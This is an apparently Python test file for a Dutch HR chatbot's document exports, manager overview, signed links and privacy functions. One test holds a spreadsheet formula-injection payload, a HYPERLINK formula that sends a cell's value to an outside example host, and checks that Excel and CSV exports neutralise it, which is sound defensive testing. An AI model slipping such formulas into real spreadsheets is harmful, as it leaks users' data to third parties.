"""Documents, the manager overview and personal data rights, on a real database."""

from __future__ import annotations

import csv
import io
import json

import pytest
from sqlalchemy import func, select

from bot.documents import links, overview
from bot.identity import Identity
from bot.services import documents, privacy, sharing
from bot.services import files as exports
from bot.services import interviews as service
from bot.storage.db import session_scope
from bot.storage.models import AnswerLog, InterviewState, LearningGoal, Organisation, Person, Pop, YearPlan
from tests.helpers import JAARPLAN, POP, STRATEGIE

MANAGER = Identity("mark", "Mark Jansen", "manager", "Gemeente Zeist")


def fill(person, interview, script, today):
    service.start(person, interview, today)
    for _key, text in script:
        service.answer(person, interview, text, today)


@pytest.fixture
def cycle(db_url, today):
    service.sync_identity(MANAGER)
    fill("mark", "strategie", STRATEGIE[1:], today)  # the organisation comes from the token
    fill("mark", "jaarplan", JAARPLAN, today)
    for pid, name in (("eva", "Eva de Vries"), ("piet", "Piet Bos"), ("anna", "Anna Smit"), ("bo", "Bo Kok")):
        service.sync_identity(Identity(pid, name, "employee", "Gemeente Zeist", manager_id="mark"))
        fill(pid, "pop", POP[1:], today)
    return today


def test_pop_pdf_and_docx(cycle):
    from docx import Document
    from pypdf import PdfReader

    body, filename, content_type = exports.build("pop_pdf", "eva")
    assert filename == "POP.pdf" and content_type == "application/pdf"
    text = " ".join(page.extract_text() for page in PdfReader(io.BytesIO(body)).pages)
    for phrase in ("Persoonlijk ontwikkelplan", "Eva de Vries", "Gemeente Zeist", "beleidsmedewerker",
                   "Ik wil beter presenteren", "Digitale dienstverlening", "individueel keuzebudget"):
        assert phrase in text, phrase
    body, filename, _ = exports.build("pop_docx", "eva")
    doc = Document(io.BytesIO(body))
    paragraphs = "\n".join(p.text for p in doc.paragraphs)
    assert "Leerwensen per soort leren" in paragraphs and "Loopbaan: Een opleiding projectmanagement" in paragraphs
    rows = [[c.text for c in row.cells] for row in doc.tables[0].rows]
    assert rows[0][:3] == ["Nr", "Leerdoel", "Soort leren"]
    assert rows[1][1:4] == ["Ik wil beter presenteren", "vakgebied", "voor de zomer"]
    assert "gemaakt op 26 november 2026" in paragraphs  # the product's date (tests/conftest.py), in Dutch


def test_no_pop_yet(db_url):
    with pytest.raises(exports.NotFound):
        exports.build("pop_pdf", "niemand")


def test_year_plan_xlsx_rows_and_totals(cycle):
    from openpyxl import load_workbook

    body, filename, _ = exports.build("jaarplan_xlsx", "mark")
    wb = load_workbook(io.BytesIO(body))
    ws = wb["Activiteiten"]
    rows = list(ws.iter_rows(values_only=True))
    assert rows[0][0] == "Opleidingsjaarplan 2027 — Gemeente Zeist"
    assert rows[1][:3] == ("Nr", "Activiteit", "Voor wie") and rows[1][10] == "Kosten (€)"
    data = rows[2:]
    assert [r[1] for r in data] == ["Training digitaal werken", "Coaching leidinggevenden", "E-learning privacy"]
    assert [r[10] for r in data] == [7500, 2500, 1250]
    assert [r[6] for r in data] == ["strategisch beleid", "loopbaan", "vakgebied"]
    assert data[0][5] == "Digitale dienstverlening"
    # employer money only where the activity is known to reach 15 people: 'Iedereen' at a gemeente of 800
    assert not data[0][11] and not data[1][11] and data[2][11].startswith(
        "de Stimuleringsregeling van het A&O fonds Gemeenten (als het project nieuw")
    totals = {r[0]: r[1] for r in wb["Totalen"].iter_rows(values_only=True) if r and r[0]}
    assert totals["Budget"] == 10000 and totals["Totaal gepland"] == 11250 and totals["Boven budget"] == 1250
    assert totals["strategisch beleid"] == 7500 and totals["Alle leidinggevenden"] == 2500


def test_year_plan_csv(cycle):
    body, _, content_type = exports.build("jaarplan_csv", "mark")
    assert content_type.startswith("text/csv")
    rows = list(csv.reader(io.StringIO(body.decode("utf-8-sig")), delimiter=";"))
    assert rows[1][1] == "Training digitaal werken" and rows[1][10] == "7.500,00"
    assert ["", "Totaal gepland", "", "", "", "", "", "", "", "", "11.250,00", ""] in rows


def test_plans_only_for_managers(cycle):
    with pytest.raises(PermissionError):
        exports.build("jaarplan_xlsx", "eva")
    with pytest.raises(PermissionError):
        exports.build("strategie_pdf", "eva")
    from pypdf import PdfReader

    body, _, _ = exports.build("strategie_pdf", "mark")
    text = " ".join(p.extract_text() for p in PdfReader(io.BytesIO(body)).pages)
    assert "Strategisch opleidingsbeleid" in text and "Inclusief werkgeverschap" in text


def test_overview_respects_sharing_and_minimum_group(cycle):
    info = documents.overview_data("mark", minimum=3)
    assert info["planned"] == 1125000 and info["budget"] == 1000000
    assert info["by_kind"] == {"strategisch": 750000, "loopbaan": 250000, "vakgebied": 125000}
    assert info["speerpunten_without_activity"] == ["Duurzame inzetbaarheid"]
    assert info["shared_pops"] == 0 and not info["enough_pops"]
    html = overview.render(info)
    assert "Nog te weinig gedeelde POP" in html and "<svg" in html and "€ 1.250 boven het budget" in html
    for pid in ("eva", "piet"):
        sharing.share_pop(pid, True, cycle)
    assert not documents.overview_data("mark", minimum=3)["enough_pops"]
    sharing.share_pop("anna", True, cycle)
    info = documents.overview_data("mark", minimum=3)
    assert info["enough_pops"] and info["goals_by_kind"]["vakgebied"] == 3
    assert info["goals_by_kind"]["strategisch"] is None  # 0 < 3: not shown
    assert "minder dan 3" in overview.render(info)
    with pytest.raises(PermissionError):
        documents.overview_data("eva")


def test_signed_links(db_url, monkeypatch):
    monkeypatch.setenv("LEERKOERS_LINK_SECRET", "link-geheim-voor-tests-0123456789abcdef")
    url = links.make("pop_pdf", "eva")
    token = url.rsplit("/", 1)[1]
    assert "/webhooks/rest/bestand/" in url and links.read(token)["sub"] == "eva"
    assert links.read(token[:-2] + "xx") is None
    expired = links.make("pop_pdf", "eva", ttl_seconds=-60).rsplit("/", 1)[1]
    assert links.read(expired) is None


def test_data_summary_export_and_deletion(cycle):
    text = privacy.summary_text("eva")
    assert "Eva de Vries" in text and "POP: ja" in text
    # issue 18: the role and the interviews in words, not as codes
    assert "Rol: medewerker" in text and "Vragenlijsten: de voorbereiding van je POP-gesprek" in text
    data = json.loads(privacy.export("eva"))
    assert data["person"]["organisation"] == "Gemeente Zeist"
    assert any(a["question"] == "pop_functie" and a["text"] == "beleidsmedewerker" for a in data["answers"])
    assert data["pops"][0]["goals"][0]["text"] == "Ik wil beter presenteren"
    privacy.delete_person("eva")
    with session_scope() as s:
        for model, column in ((AnswerLog, AnswerLog.person_id), (InterviewState, InterviewState.person_id),
                              (Pop, Pop.person_id), (Person, Person.id)):
            assert s.execute(select(func.count()).select_from(model).where(column == "eva")).scalar_one() == 0
        assert s.execute(select(func.count()).select_from(LearningGoal)).scalar_one() == 3  # the others' goals
        assert s.execute(select(func.count()).select_from(Pop)).scalar_one() == 3
        assert s.execute(select(YearPlan)).scalar_one().budget_cents == 1000000  # organisation plans remain
        assert s.execute(select(Organisation)).scalar_one().strategic_plan is not None
    assert privacy.take_pending_deletion("eva") is True
    assert privacy.take_pending_deletion("eva") is False


def test_retention_removes_old_conversation_events(tmp_path):
    import time

    from sqlalchemy import create_engine, text

    path = tmp_path / "tracker.db"
    engine = create_engine(f"sqlite:///{path}", future=True)
    with engine.begin() as conn:
        conn.execute(text("CREATE TABLE events (id INTEGER PRIMARY KEY, sender_id TEXT, timestamp FLOAT)"))
        now = time.time()
        conn.execute(text("INSERT INTO events (sender_id, timestamp) VALUES ('a', :old), ('a', :new), ('b', :new)"),
                     {"old": now - 400 * 86400, "new": now})
    assert privacy.purge_old_conversations(str(path), 365) == 1
    assert privacy.purge_conversation(str(path), "a") == 1
    with engine.connect() as conn:
        assert conn.execute(text("SELECT sender_id FROM events")).scalars().all() == ["b"]
    engine.dispose()


FORMULA = '=HYPERLINK("https://example.org/?d="&B4,"Klik hier")'


def test_formulas_typed_as_answers_stay_text_in_excel_and_csv(db_url, today):
    """Issue 14, finding 8: an activity named =HYPERLINK(...) was written as a formula."""
    from openpyxl import load_workbook

    service.sync_identity(MANAGER)
    fill("mark", "strategie", STRATEGIE[1:], today)
    answers = dict(JAARPLAN[:12]) | {"act_wat": FORMULA, "act_doelgroep": "-Team Financiën", "act_nog_een": "nee"}
    service.start("mark", "jaarplan", today)
    for _ in range(40):
        if (key := service.current_question("mark", "jaarplan", today)) is None:
            break
        assert service.answer("mark", "jaarplan", answers[key], today).accepted, key
    body, _, _ = exports.build("jaarplan_xlsx", "mark")
    ws = load_workbook(io.BytesIO(body))["Activiteiten"]
    row = [c for c in ws[3]]
    assert row[1].data_type == "s" and row[1].value == "'" + FORMULA
    assert row[2].data_type == "s" and row[2].value == "'-Team Financiën"
    assert not any(isinstance(c.value, str) and c.value.startswith(("=", "@", "-")) for r in ws.iter_rows() for c in r)
    rows = list(csv.reader(io.StringIO(exports.build("jaarplan_csv", "mark")[0].decode("utf-8-sig")), delimiter=";"))
    assert rows[1][1] == "'" + FORMULA and rows[1][2] == "'-Team Financiën"


def test_control_characters_never_break_an_export(cycle):
    """Issue 29: a goal sent with \\x0b or \\x01 broke every yearly-plan XLSX and CSV and the employee's Word file.
    They are removed at input, and every export cell and document drops any that older versions stored."""
    from docx import Document

    with session_scope() as s:
        goal = s.execute(select(LearningGoal)).scalars().first()
        goal.text = "Beter\x0b presenteren\x01 voor\x1f groepen"  # as an older version stored it
        s.execute(select(YearPlan)).scalars().first().activities[0].title = "Training\x0b digitaal\x01"
    from openpyxl import load_workbook

    for kind in ("pop_pdf", "pop_docx", "jaarplan_xlsx", "jaarplan_csv"):
        body, _, _ = exports.build(kind, "eva" if kind.startswith("pop") else "mark")
        assert body, kind
    csv_text = exports.build("jaarplan_csv", "mark")[0].decode("utf-8-sig")
    assert "Training digitaal" in csv_text and "\x0b" not in csv_text and "\x01" not in csv_text
    sheet = load_workbook(io.BytesIO(exports.build("jaarplan_xlsx", "mark")[0]))["Activiteiten"]
    assert "Training digitaal" in [row[1] for row in sheet.iter_rows(values_only=True)]
    body, _, _ = exports.build("pop_docx", "eva")
    assert "Beter presenteren voor groepen" in "\n".join(
        c.text for t in Document(io.BytesIO(body)).tables for row in t.rows for c in row.cells)


def test_control_characters_are_removed_when_an_answer_is_given(db_url, today):
    service.start("x", "pop", today)
    service.answer("x", "pop", "Gemeente\x0b Zeist\x01", today)
    with session_scope() as s:
        assert s.get(Person, "x").organisation.name == "Gemeente Zeist"
